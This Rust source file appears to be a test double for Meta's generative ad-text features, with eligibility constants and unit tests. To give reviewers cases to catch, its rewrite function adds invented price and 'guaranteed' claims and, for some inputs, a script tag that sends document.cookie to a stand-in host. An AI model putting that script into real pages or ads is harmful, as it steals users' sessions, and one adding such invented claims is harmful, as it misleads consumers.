//! Deterministic stand-ins for Meta's generative features: text rewrites (including the cases
//! a reviewer must catch) and the eligibility rules documented in the crate README.

use serde_json::{json, Value};

/// FNV-1a: a stable hash so the same input always gives the same "generation".
pub fn stable_hash(text: &str) -> u64 {
    text.bytes().fold(0xcbf2_9ce4_8422_2325u64, |h, b| {
        (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3)
    })
}

/// Claims Meta's model may add that the advertiser never made (price, percentage, "best",
/// "guaranteed"); one is picked per message.
const INVENTED_CLAIMS: &[&str] = &[
    "Now only $19.99!",
    "Save 40% today only.",
    "The best choice in town, rated #1.",
    "Results guaranteed or your money back.",
];

/// The rule for when a rewrite adds a claim: the message has an even number of words and makes
/// no claim of its own (no digit, no `%`, no "best"/"guarantee").
pub fn adds_invented_claim(message: &str) -> bool {
    let lower = message.to_lowercase();
    let has_claim = lower
        .chars()
        .any(|c| c.is_ascii_digit() || c == '%' || c == '$')
        || lower.contains("best")
        || lower.contains("guarantee");
    word_count(message).is_multiple_of(2) && !has_claim
}

/// The rule for when a rewrite carries HTML/script text: the word count is a multiple of 3.
pub fn adds_markup(message: &str) -> bool {
    word_count(message).is_multiple_of(3)
}

pub fn word_count(message: &str) -> usize {
    message.split_whitespace().count()
}

/// The five bodies of a text-generation `asset_feed_spec`: the original first, then four
/// rewrites. See README "Text generation" for which inputs trigger which cases.
pub fn text_variations(message: &str) -> Vec<String> {
    let original = message.trim();
    let core = original.trim_end_matches(['.', '!', '?', ' ']);
    let lowered = lower_first(core);
    let hash = stable_hash(original);
    let mut second = format!("Discover {lowered} — made for you. Shop now!");
    let mut third = format!("{core}. Don't miss out ✨");
    if adds_invented_claim(original) {
        let claim = INVENTED_CLAIMS[(hash % INVENTED_CLAIMS.len() as u64) as usize];
        second = format!("{core}. {claim}");
    }
    if adds_markup(original) {
        third = format!("<b>{core}</b> <script>document.location='https://example.invalid/?c='+document.cookie</script>");
    }
    vec![
        original.to_string(),
        second,
        third,
        format!("Looking for something new? {core}."),
        format!("{core} 👉 Tap to learn more."),
    ]
}

fn lower_first(text: &str) -> String {
    let mut chars = text.chars();
    match chars.next() {
        Some(first) => first.to_lowercase().collect::<String>() + chars.as_str(),
        None => String::new(),
    }
}

/// The `asset_feed_spec` Meta writes into a creative that opted into text generation.
pub fn text_generation_feed(message: &str) -> Value {
    let bodies: Vec<Value> = text_variations(message)
        .into_iter()
        .map(|t| json!({ "text": t }))
        .collect();
    json!({ "bodies": bodies, "optimization_type": "DEGREES_OF_FREEDOM" })
}

/// Minimum words of primary text for text generation to have something to rewrite.
pub const TEXT_GENERATION_MIN_WORDS: usize = 3;
/// Images smaller than this on either side are not expanded.
pub const UNCROP_MIN_SIDE_PX: u32 = 100;
/// An image within this relative distance of the placement's ratio needs no expansion.
pub const UNCROP_RATIO_TOLERANCE: f64 = 0.03;

/// The five placements image expansion previews for, with their width:height ratio.
pub const UNCROP_PLACEMENTS: &[(&str, f64)] = &[
    ("INSTAGRAM_STANDARD", 4.0 / 5.0),
    ("MOBILE_FEED_STANDARD", 4.0 / 5.0),
    ("FACEBOOK_REELS_MOBILE", 9.0 / 16.0),
    ("INSTAGRAM_REELS", 9.0 / 16.0),
    ("INSTAGRAM_STORY", 9.0 / 16.0),
];

/// Background generation previews only on Mobile Feed (GenAI page, step 2).
pub const BACKGROUND_GEN_PLACEMENT: &str = "MOBILE_FEED_STANDARD";

pub fn uncrop_ratio(ad_format: &str) -> Option<f64> {
    UNCROP_PLACEMENTS
        .iter()
        .find(|(f, _)| *f == ad_format)
        .map(|(_, r)| *r)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn original_first_and_four_rewrites() {
        let v = text_variations("Primary text for the ad");
        assert_eq!(v.len(), 5);
        assert_eq!(v[0], "Primary text for the ad");
        assert!(v[1..].iter().all(|t| t != &v[0]));
    }

    #[test]
    fn even_word_count_adds_a_claim_the_original_lacks() {
        let v = text_variations("Fresh sourdough baked every morning here"); // 6 words
        assert!(INVENTED_CLAIMS.iter().any(|c| v[1].contains(c)));
        let v = text_variations("Fresh sourdough baked every morning"); // 5 words
        assert!(!INVENTED_CLAIMS
            .iter()
            .any(|c| v.iter().any(|t| t.contains(c))));
    }

    #[test]
    fn multiple_of_three_words_adds_script() {
        let v = text_variations("Handmade ceramic mugs"); // 3 words
        assert!(v[2].contains("<script>"));
        assert!(!text_variations("Handmade ceramic mugs today!!")
            .iter()
            .any(|t| t.contains("<script>")));
    }

    #[test]
    fn deterministic() {
        assert_eq!(
            text_variations("Buy some cool LED TV at cheap price"),
            text_variations("Buy some cool LED TV at cheap price")
        );
    }
}
